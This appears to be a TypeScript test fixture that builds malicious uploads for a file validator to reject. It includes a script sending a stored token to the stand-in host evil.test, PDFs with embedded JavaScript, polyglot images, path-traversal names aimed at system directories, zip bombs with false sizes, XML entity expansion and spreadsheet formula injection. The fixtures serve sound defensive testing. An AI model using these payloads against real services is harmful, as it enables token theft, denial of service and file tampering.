/** Malicious files. Each must be refused with a message for people. */
import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';

/** One pixel. */
export const PICTURE = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);
const SCRIPT = '<script>fetch("//evil.test?"+localStorage.token)</script>';
const GIGABYTE = 2 ** 30;

interface Entry {
  name: string;
  bytes: Buffer;
  /** The unpacked size that the directory states; the real one by default. */
  claims?: number;
  /** A gzip file of that many equal bytes, made without holding them in memory. */
  packed?: { bytes: Buffer; size: number };
}

export interface NastyFile {
  name: string;
  file: () => File;
}

const file = (name: string, type: string, bytes: Buffer | string): (() => File) => {
  const part = typeof bytes === 'string' ? bytes : new Uint8Array(bytes);
  return () => new File([part], name, { type });
};

export function nastyPapers(): NastyFile[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`;
  return [
    { name: 'an SVG with a script', file: file('paper.svg', 'image/svg+xml', svg) },
    { name: 'an SVG that calls itself PNG', file: file('paper.png', 'image/png', svg) },
    {
      name: 'HTML that calls itself PDF',
      file: file('paper.pdf', 'application/pdf', `<!doctype html>${SCRIPT}`),
    },
    {
      name: 'a picture with a script behind it',
      file: file('paper.png', 'image/png', Buffer.concat([PICTURE, Buffer.from(SCRIPT)])),
    },
    {
      name: 'a picture that is an archive as well',
      file: file(
        'paper.png',
        'image/png',
        Buffer.concat([PICTURE, zip([{ name: 'a', bytes: Buffer.from('a') }])]),
      ),
    },
    {
      name: 'a picture that is a PDF as well',
      file: file('paper.png', 'image/png', Buffer.concat([PICTURE, Buffer.from('%PDF-1.4\n%%EOF\n')])),
    },
    {
      name: 'a PDF with a program',
      file: file(
        'paper.pdf',
        'application/pdf',
        '%PDF-1.4\n1 0 obj <</S /JavaScript /JS (app.alert(1))>> endobj\n%%EOF\n',
      ),
    },
    {
      name: 'a PDF with a program whose name is escaped',
      file: file(
        'paper.pdf',
        'application/pdf',
        '%PDF-1.4\n1 0 obj <</S /J#61vaScript /JS (app.alert(1))>> endobj\n%%EOF\n',
      ),
    },
    {
      name: 'a PDF with a program in a compressed stream',
      file: file(
        'paper.pdf',
        'application/pdf',
        Buffer.concat([
          Buffer.from('%PDF-1.5\n1 0 obj <</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode>>\nstream\n'),
          deflateSync(Buffer.from('2 0 <</S /JavaScript /JS (app.alert(1))>>')),
          Buffer.from('\nendstream\nendobj\n%%EOF\n'),
        ]),
      ),
    },
    { name: 'half a picture', file: file('paper.png', 'image/png', PICTURE.subarray(0, 40)) },
    { name: 'a program', file: file('paper.png', 'image/png', Buffer.from('\x7fELF\x02\x01\x01', 'latin1')) },
    { name: 'a table', file: file('paper.csv', 'text/csv', 'a,b\n1,2\n') },
    { name: '0 bytes', file: file('paper.png', 'image/png', '') },
    {
      name: 'a huge picture',
      file: () =>
        new File([new Uint8Array(PICTURE), new Uint8Array(30 * 2 ** 20)], 'paper.png', { type: 'image/png' }),
    },
    { name: 'a name that leads away', file: file('../../../../etc/cron.d/paper', 'image/png', svg) },
  ];
}

/** Files that are not public pictures: the same, and documents that are fine elsewhere. */
export function nastyPictures(): NastyFile[] {
  return [
    ...nastyPapers(),
    { name: 'a plain PDF', file: file('picture.png', 'image/png', '%PDF-1.4\n%%EOF\n') },
  ];
}

/** Files that are not price lists. */
export function nastyLists(): NastyFile[] {
  return [
    { name: '0 bytes', file: file('prices.csv', 'text/csv', '') },
    { name: 'a picture', file: file('prices.csv', 'text/csv', PICTURE) },
    { name: 'a PDF', file: file('prices.csv', 'text/csv', '%PDF-1.4\n%%EOF\n') },
    { name: 'a workbook', file: file('prices.csv', 'text/csv', workbook({})) },
    {
      name: 'a packed list',
      file: file('prices.csv', 'text/csv', gzipSync('BR,IF,D,0.3,0.39,1,1/1/2026\n')),
    },
    { name: 'a web page', file: file('prices.csv', 'text/csv', `<html>${SCRIPT}</html>`) },
    { name: 'formulas', file: file('prices.csv', 'text/csv', '=1+1,@SUM(1),-1,+1,=A1,=1,=NOW()\n') },
    {
      name: 'lines without end',
      file: () => new File(['a\n'.repeat(4 * 2 ** 20)], 'prices.csv', { type: 'text/csv' }),
    },
    {
      name: 'too much',
      file: () => new File([new Uint8Array(11 * 2 ** 20)], 'prices.csv', { type: 'text/csv' }),
    },
  ];
}

export function nastySheets(): NastyFile[] {
  const spaces = { bytes: bomb(1_200), size: 1_200 * 2 ** 20 };
  const xlsx = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
  return [
    { name: '0 bytes', file: file('stock.csv', 'text/csv', '') },
    { name: 'a picture', file: file('stock.xlsx', xlsx, PICTURE) },
    { name: 'a PDF', file: file('stock.csv', 'text/csv', '%PDF-1.4\n%%EOF\n') },
    {
      name: 'a web page that calls itself a workbook',
      file: file('stock.xls', 'application/vnd.ms-excel', `<html><table><tr><td>${SCRIPT}</td></tr></table>`),
    },
    {
      name: 'a workbook of before 2007',
      file: file('stock.xls', 'application/vnd.ms-excel', Buffer.from('d0cf11e0a1b11ae1', 'hex')),
    },
    { name: 'JSON', file: file('stock.csv', 'text/csv', '[{"shape":"Round"}]') },
    { name: 'half an archive', file: file('stock.xlsx', xlsx, workbook({}).subarray(0, 200)) },
    {
      name: 'an archive without a workbook',
      file: file('stock.xlsx', xlsx, zip([{ name: 'notes.txt', bytes: Buffer.from('none') }])),
    },
    {
      name: 'an archive whose files lead away',
      file: file(
        'stock.xlsx',
        xlsx,
        zip([{ name: '../../../../etc/cron.d/evil', bytes: Buffer.from('evil') }]),
      ),
    },
    {
      name: 'a workbook whose sheet leads away',
      file: file('stock.xlsx', xlsx, workbook({ target: '../../../../../../etc/passwd' })),
    },
    {
      name: 'a workbook of gigabytes',
      file: file('stock.xlsx', xlsx, workbook({ packed: { ...spaces, size: 3 * GIGABYTE } })),
    },
    {
      name: 'a workbook that says it is small and is not',
      file: file('stock.xlsx', xlsx, workbook({ packed: { ...spaces, size: 4_000 } })),
    },
    {
      name: 'a workbook with an entity that grows',
      file: file(
        'stock.xlsx',
        xlsx,
        workbook({
          sheet: `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_one, n) => `<!ENTITY a${n} "${`&a${n === 0 ? '' : n - 1};`.repeat(10)}">`).join('')}]><worksheet>&a8;</worksheet>`,
        }),
      ),
    },
    {
      name: 'a workbook of 30 million empty rows',
      file: () => sheet(xlsx, emptyRowsWorkbook(30)),
    },
    {
      name: 'a workbook with a cell of a gigabyte',
      file: () => sheet(xlsx, giantCellWorkbook(1024)),
    },
    {
      name: 'a packed table of 30 million empty lines',
      file: file('stock.csv.gz', 'application/gzip', gzipSync(Buffer.alloc(30_000_000, '\n'))),
    },
    {
      name: 'a table of more than 200 MB',
      file: () => {
        const block = new Uint8Array(Buffer.from('A1,Round,1.01\n'.repeat(75_000)));
        return new File(
          Array.from({ length: 202 }, () => block),
          'stock.csv',
          { type: 'text/csv' },
        );
      },
    },
    {
      name: 'a packed table of one endless line',
      file: file('stock.csv.gz', 'application/gzip', gzipSync(Buffer.alloc(64 * 2 ** 20, 'a'))),
    },
    {
      name: 'a packed table that breaks off',
      file: file('stock.csv.gz', 'application/gzip', gzipSync('a,b\n1,2\n').subarray(0, 20)),
    },
  ];
}

const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006/relationships';

interface SpoiledWorkbook {
  target?: string;
  sheet?: string;
  packed?: { bytes: Buffer; size: number };
}

/** A minimal workbook, damaged in one place. */
function workbook({
  target = 'worksheets/sheet1.xml',
  sheet = '<worksheet/>',
  packed,
}: SpoiledWorkbook): Buffer {
  const relations = (type: string, to: string): Buffer =>
    Buffer.from(
      `<Relationships xmlns="${PACKAGE}"><Relationship Id="rId1" Type="${RELATION}/${type}" Target="${to}"/></Relationships>`,
    );
  return zip([
    { name: '[Content_Types].xml', bytes: Buffer.from('<Types/>') },
    { name: '_rels/.rels', bytes: relations('officeDocument', 'xl/workbook.xml') },
    {
      name: 'xl/workbook.xml',
      bytes: Buffer.from(
        `<workbook xmlns:r="${RELATION}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`,
      ),
    },
    { name: 'xl/_rels/workbook.xml.rels', bytes: relations('worksheet', target) },
    { name: 'xl/worksheets/sheet1.xml', bytes: Buffer.from(sheet), ...(packed ? { packed } : {}) },
  ]);
}

/** A workbook whose sheet unpacks to that size, whatever it states. */
export const bombWorkbook = (megabytes: number, size = megabytes * 2 ** 20): Buffer =>
  workbook({ packed: { bytes: bomb(megabytes), size } });

const sheet = (type: string, bytes: Buffer): File =>
  new File([new Uint8Array(bytes)], 'stock.xlsx', { type });

/** A workbook of that many million rows without a cell. */
export const emptyRowsWorkbook = (millions: number): Buffer =>
  workbook({ packed: repeated('<worksheet><sheetData>', '<row/>'.repeat(1_000_000), millions) });

/** A workbook with one cell of that many megabytes. */
export const giantCellWorkbook = (megabytes: number): Buffer =>
  workbook({
    packed: repeated(
      '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>',
      'a'.repeat(2 ** 20),
      megabytes,
    ),
  });

/** A workbook whose sheet is this XML. */
export const workbookOf = (xml: string): Buffer => workbook({ sheet: xml });

/** A deflated text that begins so and repeats a block, made without holding it in memory. */
function repeated(head: string, block: string, times: number): { bytes: Buffer; size: number } {
  const packed = deflateRawSync(Buffer.from(block), { finishFlush: 2 });
  return {
    bytes: Buffer.concat([
      deflateRawSync(Buffer.from(head), { finishFlush: 2 }),
      ...Array.from({ length: times }, () => packed),
      deflateRawSync(Buffer.from(' ')),
    ]),
    size: head.length + block.length * times + 1,
  };
}

/** Deflated zeros, about a thousandth of their unpacked size: one compressed megabyte repeated. */
function bomb(megabytes: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(2 ** 20, ' '), { finishFlush: 2 });
  const last = deflateRawSync(Buffer.from(' '));
  return Buffer.concat([...Array.from({ length: megabytes }, () => block), last]);
}

function zip(entries: readonly Entry[]): Buffer {
  const parts: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const { name, bytes, packed } of entries) {
    const data = packed?.bytes ?? deflateRawSync(bytes);
    const size = packed?.size ?? bytes.length;
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(8, 4);
    common.writeUInt32LE(crc32(bytes), 10);
    common.writeUInt32LE(data.length, 14);
    common.writeUInt32LE(size, 18);
    common.writeUInt16LE(Buffer.byteLength(name), 22);
    const label = Buffer.from(name);
    const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), common, label, data]);
    const rest = Buffer.alloc(14);
    rest.writeUInt32LE(offset, 10);
    directory.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), common, rest, label]));
    parts.push(local);
    offset += local.length;
  }
  const index = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(index.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, index, end]);
}
